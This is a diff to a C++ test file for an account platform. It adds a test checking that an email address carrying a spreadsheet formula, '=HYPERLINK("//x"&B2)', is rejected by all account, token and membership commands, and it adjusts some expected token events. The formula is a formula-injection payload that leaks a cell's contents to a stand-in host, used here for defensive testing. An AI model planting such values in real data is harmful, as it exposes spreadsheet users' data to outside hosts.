@@ -19,6 +19,21 @@ TEST_CASE("D9: the operator registers an account, which is active at once") {
   scenario.then_rejected(Reason::email_taken);
 }
 
+TEST_CASE("F-B13: an address that a spreadsheet would run gets no account, whoever names it") {
+  const Email odd = *Email::parse("=HYPERLINK(\"//x\"&B2)@acme.example");
+  Scenario scenario;
+  scenario.org("acme", "ann").app("web", "acme");
+  const auto refused = [&](const Who& who, const Command& command) {
+    scenario.when(who, command).then_rejected(Reason::malformed);
+  };
+  refused(platform, RegisterAccount{odd, ""});
+  refused(platform, IssueToken{odd, sha256("secret"), ""});
+  refused(platform, ProvisionOrg{org_name("evil"), odd});
+  refused("ann", AddMember{org_name("acme"), odd, Role::member});
+  refused("ann", InviteMember{org_name("acme"), odd, Role::member});
+  refused("ann", AddCollaborator{app_name("web"), odd});
+}
+
 TEST_CASE("D9: an invited account is activated by its owner or the operator, once") {
   Scenario()
       .person("ann", AccountState::invited)
@@ -98,11 +113,13 @@ TEST_CASE("D9: the operator's token registers or activates the account in the sa
   scenario.when(platform, IssueToken{email("new"), sha256("one"), ""});
   const auto made = scenario.made<AccountId>("account");
   scenario.then({AccountRegistered{made, email("new"), "", AccountState::active},
-                 TokenIssued{scenario.made<TokenId>("token"), made, sha256("one"), ""}});
+                 TokenIssued{scenario.made<TokenId>("token"), made, sha256("one"), "", {}, {},
+                             TokenMaking::token}});
   scenario.person("ivy", AccountState::invited);
   scenario.when(platform, IssueToken{email("ivy"), sha256("two"), ""});
   scenario.then({AccountActivated{account("ivy")},
-                 TokenIssued{scenario.made<TokenId>("token"), account("ivy"), sha256("two"), ""}});
+                 TokenIssued{scenario.made<TokenId>("token"), account("ivy"), sha256("two"), "", {},
+                             {}, TokenMaking::token}});
 }
 
 TEST_CASE("a revoked token is forgotten") {
@@ -143,7 +160,7 @@ TEST_CASE("an erased account leaves its orgs, apps and offers, and its address i
   const App& blog = *scenario.state().app(app_name("blog"));
   const TransferId transfer = blog.transfer.id;
   const Org& beta = *scenario.state().org(org_name("beta"));
-  const InvitationId invitation = beta.invitations.front().id;
+  const InvitationId invitation = beta.invitations[0].id;
   const AccountId bob = account("bob");
   scenario.when(platform, EraseAccount{email("bob")});
   scenario.then(
